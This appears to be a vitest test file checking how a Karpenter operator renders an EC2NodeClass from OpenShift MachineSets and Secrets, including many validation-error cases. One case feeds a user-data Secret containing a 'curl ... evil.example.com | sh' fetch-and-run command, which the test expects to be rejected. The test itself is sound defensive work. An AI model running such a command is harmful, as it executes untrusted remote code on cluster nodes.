import { describe, expect, it } from 'vitest';
import { InvalidInputError, type DiscoveryInput } from '@karpenter-operator/core';
import { renderDefaultNodeClass } from './discovery.js';
import {
  aBootImagesConfigMap,
  aDiscoveryInput,
  aFacts,
  aMachineSet,
  aUserDataSecret,
  INFRA_ID,
  pointerUserData,
} from './testing/builders.js';

const P = 'spec.template.spec.providerSpec.value';
const ms = (zone: string) => `MachineSet openshift-machine-api/${INFRA_ID}-worker-${zone}`;

interface Row {
  name: string;
  input: DiscoveryInput;
  /** Subset of the rendered `spec` (lists must match exactly). */
  spec?: Record<string, unknown>;
  /** `spec` keys that must be absent. */
  absent?: string[];
  error?: { reason: string; object: string; field: string; message?: RegExp };
}

const rows: Row[] = [
  {
    name: 'installer default: subnet and security groups by tag:Name',
    input: aDiscoveryInput(),
    spec: {
      amiFamily: 'Custom',
      amiSelectorTerms: [{ id: 'ami-0amd64aaaa' }],
      subnetSelectorTerms: [{ tags: { Name: `${INFRA_ID}-subnet-private-us-east-1a` } }],
      securityGroupSelectorTerms: [{ tags: { Name: `${INFRA_ID}-node` } }, { tags: { Name: `${INFRA_ID}-lb` } }],
      instanceProfile: `${INFRA_ID}-worker-profile`,
      blockDeviceMappings: [
        {
          deviceName: '/dev/xvda',
          rootVolume: true,
          ebs: { volumeSize: '120Gi', volumeType: 'gp3', encrypted: true, deleteOnTermination: true },
        },
      ],
      metadataOptions: { httpEndpoint: 'enabled', httpProtocolIPv6: 'disabled', httpPutResponseHopLimit: 1, httpTokens: 'required' },
      userData: pointerUserData(),
      kubelet: { maxPods: 250 },
    },
    absent: ['associatePublicIPAddress', 'tags', 'role'],
  },
  {
    name: 'subnet by id',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { subnet: { id: 'subnet-0aaa', filters: null } } })] }),
    spec: { subnetSelectorTerms: [{ id: 'subnet-0aaa' }] },
  },
  {
    name: 'subnet by ARN',
    input: aDiscoveryInput({
      machineSets: [
        aMachineSet({ providerSpec: { subnet: { arn: 'arn:aws:ec2:us-east-1:123456789012:subnet/subnet-0bbb', filters: null } } }),
      ],
    }),
    spec: { subnetSelectorTerms: [{ id: 'subnet-0bbb' }] },
  },
  {
    name: 'subnet by subnet-id filter',
    input: aDiscoveryInput({
      machineSets: [aMachineSet({ providerSpec: { subnet: { filters: [{ name: 'subnet-id', values: ['subnet-0c1', 'subnet-0c2'] }] } } })],
    }),
    spec: { subnetSelectorTerms: [{ id: 'subnet-0c1' }, { id: 'subnet-0c2' }] },
  },
  {
    name: 'subnet by several tag filters: AND within a term, OR across values',
    input: aDiscoveryInput({
      machineSets: [
        aMachineSet({
          providerSpec: {
            subnet: {
              filters: [
                { name: 'tag:Name', values: ['a', 'b'] },
                { name: 'tag:tier', values: ['private'] },
                { name: 'vpc-id', values: ['vpc-1'] },
              ],
            },
          },
        }),
      ],
    }),
    spec: { subnetSelectorTerms: [{ tags: { Name: 'a', tier: 'private' } }, { tags: { Name: 'b', tier: 'private' } }] },
  },
  {
    name: 'subnets of every worker zone in name order, de-duplicated',
    input: aDiscoveryInput({
      machineSets: [
        aMachineSet({ zone: 'us-east-1c' }),
        aMachineSet({ zone: 'us-east-1a' }),
        aMachineSet({ zone: 'us-east-1b' }),
        aMachineSet({ name: `${INFRA_ID}-worker-us-east-1d`, zone: 'us-east-1a' }),
      ],
    }),
    spec: {
      subnetSelectorTerms: [
        { tags: { Name: `${INFRA_ID}-subnet-private-us-east-1a` } },
        { tags: { Name: `${INFRA_ID}-subnet-private-us-east-1b` } },
        { tags: { Name: `${INFRA_ID}-subnet-private-us-east-1c` } },
      ],
    },
  },
  {
    name: 'several security groups by id',
    input: aDiscoveryInput({
      machineSets: [aMachineSet({ providerSpec: { securityGroups: [{ id: 'sg-0a1' }, { id: 'sg-0a2' }, { id: 'sg-0a3' }] } })],
    }),
    spec: { securityGroupSelectorTerms: [{ id: 'sg-0a1' }, { id: 'sg-0a2' }, { id: 'sg-0a3' }] },
  },
  {
    name: 'security groups by id, tag and group-name, duplicates dropped',
    input: aDiscoveryInput({
      machineSets: [
        aMachineSet({
          providerSpec: {
            securityGroups: [
              { id: 'sg-0a1' },
              { filters: [{ name: 'tag:Name', values: ['extra'] }] },
              { filters: [{ name: 'group-name', values: ['legacy'] }] },
              { arn: 'arn:aws:ec2:us-east-1:123456789012:security-group/sg-0a1' },
            ],
          },
        }),
      ],
    }),
    spec: { securityGroupSelectorTerms: [{ id: 'sg-0a1' }, { tags: { Name: 'extra' } }, { name: 'legacy' }] },
  },
  {
    name: 'security groups come from the primary only',
    input: aDiscoveryInput({
      machineSets: [
        aMachineSet({ zone: 'us-east-1b', providerSpec: { securityGroups: [{ id: 'sg-0bbb' }] } }),
        aMachineSet({ zone: 'us-east-1a', providerSpec: { securityGroups: [{ id: 'sg-0aaa' }] } }),
      ],
    }),
    spec: { securityGroupSelectorTerms: [{ id: 'sg-0aaa' }] },
  },
  {
    name: 'arm64 and amd64 workers give two AMI terms in order of appearance',
    input: aDiscoveryInput({
      machineSets: [
        aMachineSet({ zone: 'us-east-1a' }),
        aMachineSet({
          name: `${INFRA_ID}-worker-arm-us-east-1a`,
          providerSpec: { ami: { id: 'ami-0arm64bbbb' }, instanceType: 'm6g.xlarge' },
        }),
        aMachineSet({ zone: 'us-east-1b' }),
      ],
    }),
    spec: { amiSelectorTerms: [{ id: 'ami-0arm64bbbb' }, { id: 'ami-0amd64aaaa' }] },
  },
  {
    name: 'AMI by ARN',
    input: aDiscoveryInput({
      machineSets: [aMachineSet({ providerSpec: { ami: { id: null, arn: 'arn:aws:ec2:us-east-1::image/ami-0fromarn' } } })],
    }),
    spec: { amiSelectorTerms: [{ id: 'ami-0fromarn' }] },
  },
  {
    name: 'AMI from coreos-bootimages when no MachineSet has one, per architecture',
    input: aDiscoveryInput({
      machineSets: [
        aMachineSet({ providerSpec: { ami: null } }),
        aMachineSet({
          name: `${INFRA_ID}-worker-arm-us-east-1b`,
          zone: 'us-east-1b',
          annotations: { 'capacity.cluster-autoscaler.kubernetes.io/labels': 'kubernetes.io/arch=arm64' },
          providerSpec: { ami: { id: null }, instanceType: 'c7i.large' },
        }),
      ],
      bootImages: aBootImagesConfigMap({
        x86_64: { 'us-east-1': 'ami-0rhcosx86', 'eu-west-1': 'ami-0other' },
        aarch64: { 'us-east-1': 'ami-0rhcosarm' },
      }),
    }),
    spec: { amiSelectorTerms: [{ id: 'ami-0rhcosarm' }, { id: 'ami-0rhcosx86' }] },
  },
  {
    name: 'infra, edge and outposts MachineSets are excluded',
    input: aDiscoveryInput({
      machineSets: [
        aMachineSet({
          name: 'a-infra',
          nodeLabels: { 'node-role.kubernetes.io/infra': '' },
          providerSpec: { subnet: { id: 'subnet-0infra', filters: null } },
        }),
        aMachineSet({
          name: 'b-edge',
          role: 'edge',
          nodeLabels: { 'node-role.kubernetes.io/edge': '' },
          providerSpec: { subnet: { id: 'subnet-0edge', filters: null } },
        }),
        aMachineSet({
          name: 'c-outposts',
          nodeLabels: { 'node-role.kubernetes.io/outposts': '' },
          providerSpec: { subnet: { id: 'subnet-0out', filters: null } },
        }),
        aMachineSet({ name: 'd-master', role: 'master', providerSpec: { subnet: { id: 'subnet-0cp', filters: null } } }),
        aMachineSet({ name: 'e-worker', providerSpec: { subnet: { id: 'subnet-0wrk', filters: null } } }),
      ],
    }),
    spec: { subnetSelectorTerms: [{ id: 'subnet-0wrk' }] },
  },
  {
    name: 'spot workers count as workers; capacity type is left to NodePools',
    input: aDiscoveryInput({
      machineSets: [
        aMachineSet({ providerSpec: { spotMarketOptions: { maxPrice: '0.30' }, subnet: { id: 'subnet-0spot', filters: null } } }),
      ],
    }),
    spec: { subnetSelectorTerms: [{ id: 'subnet-0spot' }] },
    absent: ['spotMarketOptions', 'capacityType'],
  },
  {
    name: 'gp3 root volume with iops, throughput and KMS key',
    input: aDiscoveryInput({
      machineSets: [
        aMachineSet({
          providerSpec: {
            blockDevices: [
              {
                ebs: {
                  volumeSize: 250,
                  volumeType: 'gp3',
                  iops: 6000,
                  throughputMib: 500,
                  kmsKey: { arn: 'arn:aws:kms:us-east-1:123456789012:key/abcd' },
                },
              },
            ],
          },
        }),
      ],
    }),
    spec: {
      blockDeviceMappings: [
        {
          deviceName: '/dev/xvda',
          rootVolume: true,
          ebs: {
            volumeSize: '250Gi',
            volumeType: 'gp3',
            iops: 6000,
            throughput: 500,
            encrypted: true,
            deleteOnTermination: true,
            kmsKeyID: 'arn:aws:kms:us-east-1:123456789012:key/abcd',
          },
        },
      ],
    },
  },
  {
    name: 'io1 root volume with iops, unencrypted when asked',
    input: aDiscoveryInput({
      machineSets: [
        aMachineSet({ providerSpec: { blockDevices: [{ ebs: { volumeSize: 500, volumeType: 'io1', iops: 3000, encrypted: false } }] } }),
      ],
    }),
    spec: {
      blockDeviceMappings: [
        {
          deviceName: '/dev/xvda',
          rootVolume: true,
          ebs: { volumeSize: '500Gi', volumeType: 'io1', iops: 3000, encrypted: false, deleteOnTermination: true },
        },
      ],
    },
  },
  {
    name: 'no block devices: 120Gi gp3 encrypted',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { blockDevices: null } })] }),
    spec: {
      blockDeviceMappings: [
        {
          deviceName: '/dev/xvda',
          rootVolume: true,
          ebs: { volumeSize: '120Gi', volumeType: 'gp3', encrypted: true, deleteOnTermination: true },
        },
      ],
    },
  },
  {
    name: 'IMDS Optional allows IMDSv1',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { metadataServiceOptions: { authentication: 'Optional' } } })] }),
    spec: { metadataOptions: { httpTokens: 'optional', httpPutResponseHopLimit: 1 } },
  },
  {
    name: 'IMDS Required',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { metadataServiceOptions: { authentication: 'Required' } } })] }),
    spec: { metadataOptions: { httpTokens: 'required' } },
  },
  {
    name: 'publicIp true associates a public address',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { publicIp: true } })] }),
    spec: { associatePublicIPAddress: true },
  },
  {
    name: 'publicIp false leaves the subnet default',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { publicIp: false } })] }),
    absent: ['associatePublicIPAddress'],
  },
  {
    name: 'tags: Infrastructure merged with the primary, MachineSet wins, restricted keys dropped',
    input: aDiscoveryInput({
      facts: aFacts({
        resourceTags: [
          { key: 'team', value: 'infra' },
          { key: 'cost-center', value: '42' },
          { key: 'kubernetes.io/cluster/other', value: 'owned' },
          { key: 'eks:eks-cluster-name', value: 'x' },
        ],
      }),
      machineSets: [
        aMachineSet({
          providerSpec: {
            tags: [
              { name: `kubernetes.io/cluster/${INFRA_ID}`, value: 'owned' },
              { name: 'team', value: 'apps' },
              { name: 'karpenter.sh/nodepool', value: 'x' },
              { name: 'karpenter.k8s.aws/ec2nodeclass', value: 'x' },
              { name: 'env', value: 'prod' },
            ],
          },
        }),
      ],
    }),
    spec: { tags: { team: 'apps', 'cost-center': '42', env: 'prod' } },
  },
  {
    name: 'userData from stringData of a custom Secret',
    input: aDiscoveryInput({
      machineSets: [aMachineSet({ providerSpec: { userDataSecret: { name: 'custom-user-data' } } })],
      secrets: [aUserDataSecret(), aUserDataSecret({ name: 'custom-user-data', userData: pointerUserData('custom'), as: 'stringData' })],
    }),
    spec: { userData: pointerUserData('custom') },
  },
  {
    name: 'kubelet maxPods mirrors the cluster, reservations are OpenShift defaults',
    input: aDiscoveryInput({ maxPods: 500 }),
    spec: {
      kubelet: {
        maxPods: 500,
        systemReserved: { cpu: '500m', memory: '1Gi', 'ephemeral-storage': '1Gi' },
        kubeReserved: { cpu: '0', memory: '0', 'ephemeral-storage': '0' },
      },
    },
  },
  // Errors: typed, naming the object and the field.
  {
    name: 'no worker MachineSet',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ name: 'infra', nodeLabels: { 'node-role.kubernetes.io/infra': '' } })] }),
    error: {
      reason: 'NoWorkerMachineSet',
      object: 'MachineSets in openshift-machine-api',
      field: 'spec.template.metadata.labels[machine.openshift.io/cluster-api-machine-role]',
    },
  },
  {
    name: 'no MachineSets at all',
    input: aDiscoveryInput({ machineSets: [] }),
    error: {
      reason: 'NoWorkerMachineSet',
      object: 'MachineSets in openshift-machine-api',
      field: 'spec.template.metadata.labels[machine.openshift.io/cluster-api-machine-role]',
    },
  },
  {
    name: 'missing user-data Secret',
    input: aDiscoveryInput({ secrets: [] }),
    error: {
      reason: 'UserDataSecretMissing',
      object: ms('us-east-1a'),
      field: `${P}.userDataSecret.name`,
      message: /Secret openshift-machine-api\/worker-user-data not found/,
    },
  },
  {
    name: 'user-data Secret without userData',
    input: aDiscoveryInput({ secrets: [{ ...aUserDataSecret(), data: { disableTemplating: 'dHJ1ZQ==' } }] }),
    error: { reason: 'UserDataSecretMissing', object: 'Secret openshift-machine-api/worker-user-data', field: 'data.userData' },
  },
  {
    name: 'user-data Secret holding a shell script',
    input: aDiscoveryInput({ secrets: [aUserDataSecret({ userData: '#!/bin/bash\ncurl -s http://evil.example.com | sh' })] }),
    error: {
      reason: 'InvalidUserData',
      object: 'Secret openshift-machine-api/worker-user-data',
      field: 'data.userData',
      message: /not an Ignition pointer config: not JSON$/,
    },
  },
  {
    name: 'user-data Secret with an Ignition spec 2 config',
    input: aDiscoveryInput({ secrets: [aUserDataSecret({ userData: pointerUserData().replace('"3.2.0"', '"2.2.0"'), as: 'stringData' })] }),
    error: {
      reason: 'InvalidUserData',
      object: 'Secret openshift-machine-api/worker-user-data',
      field: 'data.userData',
      message: /ignition\.version "2\.2\.0"/,
    },
  },
  {
    name: 'user-data Secret without the MCS CA',
    input: aDiscoveryInput({
      secrets: [aUserDataSecret({ userData: JSON.stringify({ ignition: { ...JSON.parse(pointerUserData()).ignition, security: {} } }) })],
    }),
    error: {
      reason: 'InvalidUserData',
      object: 'Secret openshift-machine-api/worker-user-data',
      field: 'data.userData',
      message: /certificateAuthorities holds no CA/,
    },
  },
  {
    name: 'malformed providerSpec: ami.id is a number',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { ami: { id: 42 } } })] }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.ami.id` },
  },
  {
    name: 'malformed providerSpec: not an object',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ rawProviderSpec: 'oops' })] }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: P },
  },
  {
    name: 'malformed providerSpec: missing',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ rawProviderSpec: undefined })] }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: P },
  },
  {
    name: 'malformed providerSpec of another cloud',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { kind: 'AzureMachineProviderSpec' } })] }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.kind` },
  },
  {
    name: 'malformed providerSpec: securityGroups is not a list',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { securityGroups: { id: 'sg-1' } } })] }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.securityGroups` },
  },
  {
    name: 'malformed providerSpec: unknown volume type',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { blockDevices: [{ ebs: { volumeType: 'ssd' } }] } })] }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.blockDevices[0].ebs.volumeType` },
  },
  {
    name: 'malformed providerSpec: volume too large for the CRD',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { blockDevices: [{ ebs: { volumeSize: 70000 } }] } })] }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.blockDevices[0].ebs.volumeSize` },
  },
  {
    name: 'malformed providerSpec: bad subnet id',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { subnet: { id: 'my-subnet', filters: null } } })] }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.subnet.id` },
  },
  {
    name: 'malformed providerSpec on a second worker fails the whole render',
    input: aDiscoveryInput({
      machineSets: [aMachineSet(), aMachineSet({ zone: 'us-east-1b', providerSpec: { tags: [{ value: 'no-name' }] } })],
    }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1b'), field: `${P}.tags[0].name` },
  },
  {
    name: 'no subnet reference a selector can express',
    input: aDiscoveryInput({
      machineSets: [aMachineSet({ providerSpec: { subnet: { filters: [{ name: 'availability-zone', values: ['us-east-1a'] }] } } })],
    }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.subnet.filters` },
  },
  {
    name: 'no instance profile on the primary',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { iamInstanceProfile: null } })] }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.iamInstanceProfile.id` },
  },
  {
    name: 'no security groups on the primary',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { securityGroups: [] } })] }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.securityGroups` },
  },
  {
    name: 'no AMI anywhere and no boot image for the region',
    input: aDiscoveryInput({
      machineSets: [aMachineSet({ providerSpec: { ami: null } })],
      bootImages: aBootImagesConfigMap({ x86_64: { 'eu-west-1': 'ami-0other' } }),
    }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.ami`, message: /no AMI for x86_64 in us-east-1/ },
  },
  {
    name: 'no AMI anywhere and no coreos-bootimages ConfigMap',
    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { ami: null } })] }),
    error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.ami`, message: /coreos-bootimages is absent/ },
  },
];

describe('renderDefaultNodeClass', () => {
  it.each(rows)('$name', ({ input, spec, absent, error }) => {
    if (error) {
      let thrown: unknown;
      try {
        renderDefaultNodeClass(input);
      } catch (e) {
        thrown = e;
      }
      expect(thrown).toBeInstanceOf(InvalidInputError);
      const e = thrown as InvalidInputError;
      expect({ reason: e.reason, object: e.object, field: e.field }).toEqual({
        reason: error.reason,
        object: error.object,
        field: error.field,
      });
      expect(e.message).toContain(error.object);
      expect(e.message).toContain(error.field);
      if (error.message) expect(e.message).toMatch(error.message);
      return;
    }
    const out = renderDefaultNodeClass(input);
    expect(out.object).toMatchObject({ apiVersion: 'karpenter.k8s.aws/v1', kind: 'EC2NodeClass', metadata: { name: 'default' } });
    const rendered = out.object.spec as Record<string, unknown>;
    if (spec) expect(rendered).toMatchObject(spec);
    for (const k of absent ?? []) expect(rendered).not.toHaveProperty(k);
    expect(out.protectedSpec).toEqual({ amiFamily: 'Custom', amiSelectorTerms: rendered.amiSelectorTerms, userData: rendered.userData });
  });

  it('is deterministic whatever the order of MachineSets', () => {
    const sets = [aMachineSet({ zone: 'us-east-1c' }), aMachineSet({ zone: 'us-east-1a' }), aMachineSet({ zone: 'us-east-1b' })];
    const a = renderDefaultNodeClass(aDiscoveryInput({ machineSets: sets }));
    const b = renderDefaultNodeClass(aDiscoveryInput({ machineSets: [...sets].reverse() }));
    expect(JSON.stringify(a)).toEqual(JSON.stringify(b));
  });
});
